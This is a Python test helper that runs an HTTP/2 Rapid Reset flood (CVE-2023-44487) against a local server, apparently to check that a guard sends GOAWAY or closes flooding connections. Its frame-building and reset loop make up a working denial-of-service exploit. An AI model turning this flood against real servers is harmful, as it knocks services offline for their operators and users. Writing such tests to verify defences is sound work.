#!/usr/bin/python3
"""An HTTP/2 Rapid Reset flood (CVE-2023-44487), for test_guard.py: connects again and again
and, on each connection, starts checks and resets them at once, without waiting for answers.

    h2_flood.py PORT TOKEN SECONDS

Runs in a process of its own, so the client whose latency the test measures does not share an
interpreter with it. Prints one JSON line at the end: per connection, the GOAWAY error code the
server sent (null when none was read) and whether the server closed the connection.
"""

import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHECK = {"election": "na22", "area": "deepfake", "date": "2024-02-15", "actor": {"kind": "voter"},
         "activity": {"kind": "post", "deepfake": True, "purpose": "campaign", "labeled": True}}
STREAMS = 2000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def flood_bytes(token):
    """The same bytes serve every connection: the headers are encoded without the dynamic
    table, so no frame depends on the ones before it."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    body = json.dumps(CHECK).encode()
    parts = [PREFACE, frame(4, 0, 0)]
    for stream in range(1, 2 * STREAMS, 2):
        block = encoder.encode([(":method", "POST"), (":scheme", "http"),
                                (":authority", "127.0.0.1"), (":path", "/v1/check"),
                                ("content-type", "application/json"),
                                ("authorization", "Bearer " + token)], huffman=False)
        parts += [frame(1, 0x4, stream, block), frame(0, 0x1, stream, body),
                  frame(3, 0, stream, struct.pack(">I", 0x8))]
    return b"".join(parts)


def goaway_of(received):
    """The error code of the first GOAWAY among the frames received, or None."""
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at:at + 3], "big")
        if received[at + 3] == 7 and at + 9 + 8 <= len(received):
            return int.from_bytes(received[at + 13:at + 17], "big")
        at += 9 + length
    return None


def one_connection(port, data):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    received, closed = b"", False
    try:
        sock.sendall(data)
    except OSError:
        pass
    # A server that cuts a flood off does so at once; one that does not leaves it open.
    deadline = time.time() + 3
    sock.settimeout(3)
    try:
        while time.time() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                closed = True
                break
            received += chunk
    except ConnectionResetError:
        closed = True
    except socket.timeout:
        pass
    sock.close()
    return {"goaway": goaway_of(received), "closed": closed}


def main():
    port, token, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    data = flood_bytes(token)
    results = []
    deadline = time.time() + seconds
    while time.time() < deadline:
        results.append(one_connection(port, data))
    print(json.dumps(results))


if __name__ == "__main__":
    main()
